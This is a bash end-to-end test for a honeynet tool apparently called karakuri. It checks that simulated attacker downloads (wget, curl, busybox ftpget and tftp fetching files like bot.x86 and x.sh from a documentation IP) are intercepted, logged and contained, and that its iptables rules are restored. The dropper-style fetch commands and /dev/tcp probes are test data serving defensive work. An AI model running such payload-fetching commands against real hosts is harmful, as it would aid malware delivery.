#!/usr/bin/env bash
# Downloads with [capture] fetch = no (the default): from an SSH session on
# the gateway, wget, curl (HTTPS too), busybox wget, busybox ftpget and busybox tftp to
# an address off the machine reach karakuri's fetcher (redirected on the
# host side), each fails within 5 s, and each is a file.download (url, tool,
# fetched false, the honeynet, dst_ip); a decoy's wget too. The fetcher's
# port is reachable through the redirect only: not from a container dialling
# it on the bridge's address (contain.blocked), not from the attacker's side,
# not over the host's loopback; what is not a download port stays blocked.
# A flood of requests is recorded up to a rate, the rest counted.
# A flushed KARAKURI-FETCH chain and a deleted guard rule come back.
# `karakuri cleanup` removes it all.
. "$KARAKURI_SRC/tests/e2e/lib.sh"
e2e_start_ssh_frontend 10.246.0.0/16 "[honeynet]
pool = 1"
login() { e2e_as_attacker sshpass -p pw ssh "${SSHO[@]}" -p $port eve@"$ATT_HOST_IP" "$@"; }
ev() { "$KARAKURI" -c "$conf" events --json --type "$1"; }
login true || e2e_fail "login"
hn=$("$KARAKURI" -c "$conf" hosts --json | jq -c --arg n "src-$ATT_IP" 'select(.honeynet == $n)')
gw=$(jq -r .gateway.ip <<<"$hn")
[[ "$gw" =~ ^10\.246\. ]] || e2e_fail "gateway: '$gw'"
bridge=${gw%.*}.1
fport=10869
ss -ltn | grep -q ":$fport " || e2e_fail "nothing listens on $fport: $(grep -i fetch "$E2E_TMP/karakuri.log")"

ext=203.0.113.10
# Each command on the gateway, timed there: "NAME rc=N ms=N".
timed() { # name command...
  local n=$1
  shift
  printf 's=$(date +%%s%%N); %s >/dev/null 2>&1; rc=$?; e=$(date +%%s%%N); echo "%s rc=$rc ms=$(( (e - s) / 1000000 ))"; ' "timeout 20 $*" "$n"
}
script=$(timed wget wget -q -O /tmp/w http://$ext/bot.x86)
script+=$(timed curl curl -sf -o /tmp/c http://$ext:8080/x.sh)
script+=$(timed bbwget busybox wget -O /tmp/b http://$ext/bb.arm7)
script+=$(timed ftpget busybox ftpget -u anonymous -p guest $ext /tmp/f /pub/ftp.bin)
script+=$(timed tftp busybox tftp -g -r boot.bin -l /tmp/t $ext)
script+=$(timed https curl -s -o /tmp/s https://$ext/s.sh)
script+=$(timed httpsname curl -s -o /tmp/s --resolve dl.example.net:443:$ext https://dl.example.net/m.sh)
out=$(login "$script" 2>&1)
e2e_log "$(tr '\n' ' ' <<<"$out")"
for n in wget curl bbwget ftpget tftp https httpsname; do
  line=$(grep "^$n rc=" <<<"$out") || e2e_fail "$n did not run: $out"
  rc=$(sed 's/.* rc=\([0-9]*\).*/\1/' <<<"$line")
  ms=$(sed 's/.* ms=\([0-9]*\).*/\1/' <<<"$line")
  ((rc != 0 && rc != 124)) || e2e_fail "$n: exit $rc (it should fail, not succeed or hang)"
  ((ms < 5000)) || e2e_fail "$n took $ms ms"
done

sleep 1
ev file.download >"$E2E_TMP/dl.json"
has() { # url tool proto
  jq -se --arg u "$1" --arg t "$2" --arg p "$3" --arg h "src-$ATT_IP" --arg d "$ext" --arg s "$gw" \
    'any(.[]; .url == $u and .tool == $t and .proto == $p and .fetched == false
       and .honeynet == $h and .dst_ip == $d and .src_ip == $s)' "$E2E_TMP/dl.json" >/dev/null ||
    e2e_fail "no file.download for $1 ($2): $(cat "$E2E_TMP/dl.json")"
}
has "http://$ext/bot.x86" wget http
has "http://$ext:8080/x.sh" curl http
has "http://$ext/bb.arm7" busybox-wget http
has "ftp://$ext/pub/ftp.bin" ftp ftp
has "tftp://$ext/boot.bin" tftp tftp
jq -se 'any(.[]; .proto == "http" and .method == "GET" and (.user_agent | startswith("Wget/"))
  and .host == "203.0.113.10" and .dst_port == 80)' "$E2E_TMP/dl.json" >/dev/null ||
  e2e_fail "wget's file.download lacks method, user_agent, host: $(cat "$E2E_TMP/dl.json")"
jq -se 'any(.[]; .proto == "ftp" and .username == "anonymous" and .dst_port == 21)' \
  "$E2E_TMP/dl.json" >/dev/null || e2e_fail "ftpget's file.download: $(cat "$E2E_TMP/dl.json")"

# The session that ran them lists them, and the Cowrie export gives them to
# it, with the attacker's address, as downloads that brought no file.
sid=$("$KARAKURI" -c "$conf" events --json --type command.exec |
  jq -r 'select(.command | test("bot.x86")) | .session' | head -n 1)
[[ -n "$sid" ]] || e2e_fail "no command.exec of the downloads"
"$KARAKURI" -c "$conf" session "$sid" --json >"$E2E_TMP/session.json"
jq -se --arg u "http://$ext/bot.x86" 'any(.[]; .type == "file.download" and .url == $u)' \
  "$E2E_TMP/session.json" >/dev/null || e2e_fail "karakuri session $sid lists no download"
"$KARAKURI" -c "$conf" export --format cowrie >"$E2E_TMP/cowrie.json"
jq -se --arg u "http://$ext/bot.x86" --arg s "$sid" --arg a "$ATT_IP" \
  'any(.[]; .eventid == "cowrie.session.file_download.failed" and .url == $u and .session == $s
     and .src_ip == $a)' "$E2E_TMP/cowrie.json" >/dev/null ||
  e2e_fail "export: no file_download.failed of session $sid: $(grep -c file_download "$E2E_TMP/cowrie.json")"

# A decoy's downloads go the same way.
target=$(jq -r '.hosts[0].ip' <<<"$hn")
login "timeout 8 bash -c 'exec 3<>/dev/tcp/$target/22 && head -c 4 <&3'" >/dev/null 2>&1 || true
decoy=$("$KARAKURI" -c "$conf" hosts --json |
  jq -r --arg n "src-$ATT_IP" --arg ip "$target" 'select(.honeynet == $n) | .hosts[] | select(.ip == $ip) | .container // empty')
[[ -n "$decoy" ]] || e2e_fail "no decoy for $target"
docker exec "$decoy" timeout 10 wget -q -O /dev/null "http://$ext/decoy.sh" && e2e_fail "the decoy's wget succeeded"
e2e_wait_for 5 bash -c "'$KARAKURI' -c '$conf' events --json --type file.download | grep -q decoy.sh" ||
  e2e_fail "no file.download from the decoy"
ev file.download | jq -se --arg s "$target" 'any(.[]; .url | endswith("/decoy.sh")) and
  any(.[]; .src_ip == $s)' >/dev/null || e2e_fail "the decoy's download: $(ev file.download)"

# HTTPS: the ClientHello is read and the connection refused: the server
# name is recorded (none when dialled by address, as TLS has it).
ev tcpip.tls >"$E2E_TMP/tls.json"
jq -se --arg d "$ext" 'any(.[]; .dst_ip == $d and .dst_port == 443 and (.sni // "") == "" and
  .tls_version == "1.3" and (.alpn | contains("http/1.1")) and .honeynet != null)' "$E2E_TMP/tls.json" >/dev/null ||
  e2e_fail "tcpip.tls by address: $(cat "$E2E_TMP/tls.json")"
jq -se 'any(.[]; .sni == "dl.example.net" and (.relayed | not))' "$E2E_TMP/tls.json" >/dev/null ||
  e2e_fail "tcpip.tls by name: $(cat "$E2E_TMP/tls.json")"

# The fetcher is reachable through the redirect alone.
out=$(login "timeout 3 bash -c ': >/dev/tcp/$bridge/$fport' 2>/dev/null && echo OPEN-BRIDGE;
  timeout 3 bash -c ': >/dev/tcp/$ext/9443' 2>/dev/null && echo OPEN-9443; echo done" 2>&1)
[[ "$out" == *done* ]] || e2e_fail "the probes did not run: $out"
[[ "$out" == *OPEN* ]] && e2e_fail "reached from the gateway: $out"
e2e_as_attacker timeout 3 bash -c ": >/dev/tcp/$ATT_HOST_IP/$fport" 2>/dev/null &&
  e2e_fail "the fetcher's port answers the attacker's side"
timeout 3 bash -c ": >/dev/tcp/127.0.0.1/$fport" 2>/dev/null &&
  e2e_fail "the fetcher's port answers on the host's loopback"
sleep 2
ev contain.blocked >"$E2E_TMP/blocked.json"
jq -se --arg s "$gw" --arg d "$bridge" --argjson p $fport 'any(.[]; .src_ip == $s and .dst_ip == $d
  and .dst_port == $p and .rule == "host")' "$E2E_TMP/blocked.json" >/dev/null ||
  e2e_fail "no contain.blocked for the fetcher's port dialled directly"
jq -se --arg s "$gw" --arg d "$ext" 'any(.[]; .src_ip == $s and .dst_ip == $d and .dst_port == 9443
  and .rule == "outside")' "$E2E_TMP/blocked.json" >/dev/null || e2e_fail "no contain.blocked for 9443"

# A flood of requests is answered, and recorded up to the source's rate;
# the rest are counted into the next one recorded: nothing goes unsaid.
login "for i in \$(seq 1 400); do exec 3<>/dev/tcp/$ext/80 && printf 'GET /flood/%d HTTP/1.0\\r\\n\\r\\n' \$i >&3 && cat <&3 >/dev/null; exec 3<&-; done; sleep 1.5;
  exec 3<>/dev/tcp/$ext/80 && printf 'GET /flood/last HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3 >/dev/null" >/dev/null 2>&1 ||
  e2e_fail "the flood did not run"
sleep 1
ev file.download | jq -s '[.[] | select(.url | contains("/flood/"))]' >"$E2E_TMP/flood.json"
rec=$(jq length "$E2E_TMP/flood.json")
unrec=$(jq '[.[].unrecorded // 0] | add' "$E2E_TMP/flood.json")
e2e_log "flood of 401 requests: $rec recorded, $unrec counted"
((rec < 401 && rec >= 200)) || e2e_fail "$rec of 401 flood requests recorded"
((rec + unrec == 401)) || e2e_fail "recorded $rec + counted $unrec is not 401"
jq -e 'any(.[]; .url | endswith("/flood/last"))' "$E2E_TMP/flood.json" >/dev/null || e2e_fail "the last request was not recorded"

# The run-time check keeps the redirect and the guard.
iptables -t nat -F KARAKURI-FETCH
iptables -D INPUT ! -i kk-+ -p tcp -m tcp --dport $fport -m comment --comment karakuri -j DROP
back() {
  iptables -t nat -C KARAKURI-FETCH -p tcp -m tcp --dport 80 -m comment --comment karakuri \
    -j REDIRECT --to-ports $fport 2>/dev/null &&
    iptables -C INPUT ! -i kk-+ -p tcp -m tcp --dport $fport -m comment --comment karakuri -j DROP 2>/dev/null
}
e2e_wait_for 15 back || e2e_fail "the redirect or its guard was not restored"
out=$(login "timeout 10 wget -q -O /dev/null http://$ext/again.x86; echo rc=\$?" 2>&1)
[[ "$out" == *rc=8* ]] || e2e_fail "wget after the restore: $out"

kill -TERM "$KK_PID"
wait "$KK_PID" || e2e_fail "run did not exit 0"
"$KARAKURI" -c "$conf" cleanup >"$E2E_TMP/cleanup.out" 2>&1 || e2e_fail "cleanup: $(cat "$E2E_TMP/cleanup.out")"
for t in iptables "iptables -t nat"; do
  $t -S | grep -q karakuri && e2e_fail "$t rules left after cleanup: $($t -S | grep karakuri)"
done
e2e_log "ok"
